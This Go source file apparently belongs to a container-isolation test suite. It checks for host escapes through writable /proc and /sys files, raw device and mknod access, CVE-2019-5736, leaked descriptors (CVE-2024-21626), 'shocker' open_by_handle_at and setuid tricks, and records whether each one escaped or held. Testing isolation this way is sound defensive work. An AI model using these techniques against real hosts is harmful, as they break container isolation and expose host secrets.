package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// files opens for writing what changes the whole host, and for reading what
// tells of it (CVE-2025-31133, 52565 and 52881 are ways to it).
func files() {
	for _, name := range []string{
		"/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/poweroff_cmd",
		"/proc/sys/kernel/hostname", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/fs/file-max", "/proc/sys/fs/binfmt_misc/register", "/proc/irq/default_smp_affinity",
		"/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/class/net/lo/mtu", "/sys/module/printk/parameters/time",
	} {
		writable(name)
	}
	for _, name := range []string{"/proc/kcore", "/proc/kallsyms", "/proc/keys", "/proc/timer_list", "/proc/interrupts", "/proc/sched_debug", "/sys/firmware/acpi/tables/DSDT"} {
		readable(name)
	}
}

// readable tells whether something of the kernel can be read.
func readable(name string) {
	fd, err := unix.Open(name, unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err != nil {
		if errors.Is(err, unix.ENOENT) && target.Control {
			absent("read "+name, err)
		} else {
			held("read "+name, err)
		}
		return
	}
	defer unix.Close(fd)
	b := make([]byte, 512)
	n, err := unix.Read(fd, b)
	switch {
	case masked(fd) || err == nil && n == 0:
		held("read "+name, "masked or empty")
	case err != nil:
		held("read "+name, err)
	case name == "/proc/kallsyms" && strings.HasPrefix(string(b), "0000000000000000"):
		held("read "+name, "without addresses")
	default:
		escaped("read "+name, "%d bytes", n)
	}
}

// devices opens those of the host.
func devices() {
	for _, name := range target.Devices {
		path := "/dev/" + name
		fd, err := unix.Open(path, unix.O_RDWR|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		switch {
		case err == nil && masked(fd):
			held(path, "masked")
		case err == nil:
			escaped(path, "open")
		case target.Control && !refused(err):
			// There, and busy, or without its hardware.
			absent(path, err)
		default:
			held(path, err)
		}
		if err == nil {
			unix.Close(fd)
		}
	}
	// What else has a number, whatever its name.
	known := []uint64{unix.Mkdev(1, 3), unix.Mkdev(1, 5), unix.Mkdev(1, 7), unix.Mkdev(1, 8), unix.Mkdev(1, 9), unix.Mkdev(5, 0), unix.Mkdev(5, 2)}
	strange := ""
	_ = filepath.WalkDir("/dev", func(p string, d fs.DirEntry, err error) error {
		var st unix.Stat_t
		if err != nil || unix.Lstat(p, &st) != nil {
			return nil //nolint:nilerr // what cannot be looked at cannot be opened
		}
		kind := st.Mode & unix.S_IFMT
		pty := unix.Major(st.Rdev) >= 136 && unix.Major(st.Rdev) < 144
		if (kind == unix.S_IFCHR || kind == unix.S_IFBLK) && !slices.Contains(known, st.Rdev) && !pty {
			strange = p
		}
		return nil
	})
	if strange != "" {
		escaped("unknown devices", "%s", strange)
	} else {
		held("unknown devices", "there are none")
	}
}

// mknod makes a device of the host's disk, and reads it.
func mknod() {
	dev := int(unix.Mkdev(uint32(target.Major), uint32(target.Minor)))
	reached := false
	var why error = unix.EROFS
	for _, dir := range []string{target.Shared, "/tmp", "/dev", "/dev/shm", "/run", "/"} {
		if dir == "" {
			continue
		}
		name := filepath.Join(dir, "axo-escape-disk")
		err := unix.Mknod(name, unix.S_IFBLK|0o600, dev)
		if err == nil {
			var fd int
			fd, err = unix.Open(name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			_ = unix.Unlink(name)
			if err == nil {
				unix.Close(fd)
				reached = true
				break
			}
		}
		why = err
	}
	if reached {
		escaped("disk", "open")
	} else {
		held("disk", why)
	}
}

// exe is CVE-2019-5736: the runtime's own program, by the link in /proc of a
// process that runs it, opened for writing. ETXTBSY is only said to who may.
func exe() {
	var own unix.Stat_t
	if err := unix.Stat("/proc/self/exe", &own); err != nil {
		held("own exe", err)
	}
	began := time.Now()
	reached, looked := "", 0
	for once := true; once || target.Loop && reached == "" && time.Since(began) < 600*time.Millisecond; once = false {
		looked = 0
		for _, dir := range append(glob("/proc/[0-9]*"), "/proc/self", "/proc/1", fmt.Sprint("/proc/", target.PID)) {
			if target.Control && filepath.Base(dir) != strconv.Itoa(target.PID) {
				continue // others of the host stay in peace
			}
			var st unix.Stat_t
			if unix.Stat(dir+"/exe", &st) == nil && st.Ino == own.Ino && st.Dev == own.Dev {
				continue
			}
			looked++
			fd, err := unix.Open(dir+"/exe", unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err == nil {
				unix.Close(fd)
			}
			if err == nil || errors.Is(err, unix.ETXTBSY) {
				reached = dir + "/exe"
			}
		}
	}
	if reached != "" {
		escaped("runtime's program", "%s can be written", reached)
	} else {
		held("runtime's program", fmt.Sprint("of ", looked, " others none can be written"))
	}
}

// leaks is CVE-2024-21626: descriptors, and a working directory, that a runtime
// left open lead to the host.
func leaks() {
	found := ""
	for _, fds := range append([]string{"/proc/self/fd"}, glob("/proc/[0-9]*/fd")...) {
		entries, err := os.ReadDir(fds)
		if err != nil {
			continue
		}
		for _, e := range entries {
			name := filepath.Join(fds, e.Name())
			to, err := os.Readlink(name)
			if err != nil || strings.HasPrefix(to, "pipe:") || strings.HasPrefix(to, "anon_inode:") || strings.HasPrefix(to, "/proc/") || strings.HasPrefix(to, "/dev/") {
				continue
			}
			if n, _ := strconv.Atoi(e.Name()); n > 2 {
				found += " " + name + "=" + to
			}
			// Whatever it is: does it lead to the host?
			for _, up := range []string{"", "/..", "/../..", "/../../..", "/../../../.."} {
				if b, err := os.ReadFile(name + up + target.Secret); err == nil && strings.Contains(string(b), target.Content) {
					escaped("secret through a descriptor", "%s", name+up)
					return
				}
			}
		}
	}
	held("secret through a descriptor", "no descriptor leads to it")
	if found != "" {
		escaped("descriptors", "%s", found)
	} else {
		held("descriptors", "there are none but the standard ones")
	}
	for _, dir := range []string{"/proc/self/cwd", "/proc/self/root", "/proc/1/root", "/proc/1/cwd", fmt.Sprintf("/proc/%d/root", target.PID), "", "..", "../../../../.."} {
		if b, err := os.ReadFile(dir + target.Secret); err == nil && strings.Contains(string(b), target.Content) {
			escaped("secret by a directory", "%q", dir)
			return
		}
	}
	held("secret by a directory", "none leads to it")
}

func glob(pattern string) []string { list, _ := filepath.Glob(pattern); return list }

// handle is "shocker": a file handle names an inode of a file system of which
// only a part is inside.
func handle() {
	fd, err := unix.Open(target.Handle, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		held("open_by_handle_at", err)
		return
	}
	defer unix.Close(fd)
	// The root of an ext4, xfs or btrfs file system: inode 2, 128 or 256, by a
	// handle of the kind that has an inode and a generation.
	var last error
	for _, ino := range []uint32{2, 128, 256} {
		b := binary.NativeEndian.AppendUint32(nil, ino)
		root, err := openByHandle(fd, 1, binary.NativeEndian.AppendUint32(b, 0))
		if err != nil {
			last = err
			continue
		}
		defer unix.Close(root)
		for up := target.Secret; up != "/"; up = "/" + strings.TrimPrefix(up[1:], strings.SplitN(up[1:], "/", 2)[0]+"/") {
			f, err := unix.Openat(root, "."+up, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err == nil {
				b := make([]byte, 512)
				n, _ := unix.Read(f, b)
				unix.Close(f)
				if n > 0 && strings.Contains(string(b[:n]), target.Content) {
					escaped("open_by_handle_at", "read the secret")
					return
				}
			}
			if !strings.Contains(up[1:], "/") {
				break
			}
		}
		last = errors.New("the root is open, and the secret not below it")
	}
	if target.Control && !refused(last) {
		absent("open_by_handle_at", last)
		return
	}
	held("open_by_handle_at", last)
}

func openByHandle(mount int, kind int32, id []byte) (int, error) {
	h := unix.NewFileHandle(kind, id)
	return unix.OpenByHandleAt(mount, h, unix.O_RDONLY|unix.O_DIRECTORY)
}

// shared leaves traps in a directory of the host: they are what a careless
// reader there falls into, or what keeps its power outside.
func shared() {
	name := filepath.Join(target.Shared, "setuid")
	err := os.WriteFile(name, []byte("#!/bin/sh\n"), 0o755)
	if err != nil {
		held("write", err)
		return
	}
	var st unix.Stat_t
	for thing, try := range map[string]func() error{
		"set-uid by chmod":    func() error { return unix.Chmod(name, 0o4755) },
		"set-gid by fchmodat": func() error { return unix.Fchmodat(unix.AT_FDCWD, name, 0o2755, 0) },
		"set-uid by open": func() error {
			fd, err := unix.Open(name+"2", unix.O_CREAT|unix.O_EXCL|unix.O_WRONLY, 0o4755)
			if err == nil {
				unix.Close(fd)
				err = unix.Rename(name+"2", name)
			}
			return err
		},
		"set-uid by openat2": func() error {
			fd, err := unix.Openat2(unix.AT_FDCWD, name+"3", &unix.OpenHow{Flags: unix.O_CREAT | unix.O_EXCL | unix.O_WRONLY, Mode: 0o4755})
			if err == nil {
				unix.Close(fd)
				err = unix.Rename(name+"3", name)
			}
			return err
		},
	} {
		err := try()
		if unix.Lstat(name, &st) == nil && st.Mode&(unix.S_ISUID|unix.S_ISGID) != 0 {
			escaped(thing, "mode %o", st.Mode)
			_ = os.Remove(name)
			_ = os.WriteFile(name, nil, 0o755)
		} else {
			held(thing, err)
		}
	}
	err = unix.Setxattr(name, "security.capability", append([]byte{1, 0, 0, 2, 0xff, 0xff, 0xff, 0xff}, make([]byte, 12)...), 0)
	verdict("file capabilities", err)
	verdict("owner root", owner(name))
	if target.Control { // outside it is no mount yet
		_ = unix.Mount(target.ReadOnly, target.ReadOnly, "", unix.MS_BIND, "")
		_ = unix.Mount("", target.ReadOnly, "", unix.MS_REMOUNT|unix.MS_BIND|unix.MS_RDONLY, "")
	}
	verdict("make writable what is read-only", unix.Mount("", target.ReadOnly, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	verdict("write to what is read-only", os.WriteFile(filepath.Join(target.ReadOnly, "new"), nil, 0o644))
}

func owner(name string) error {
	if err := os.Chown(name, 54321, 54321); err != nil {
		return err
	}
	return nil
}
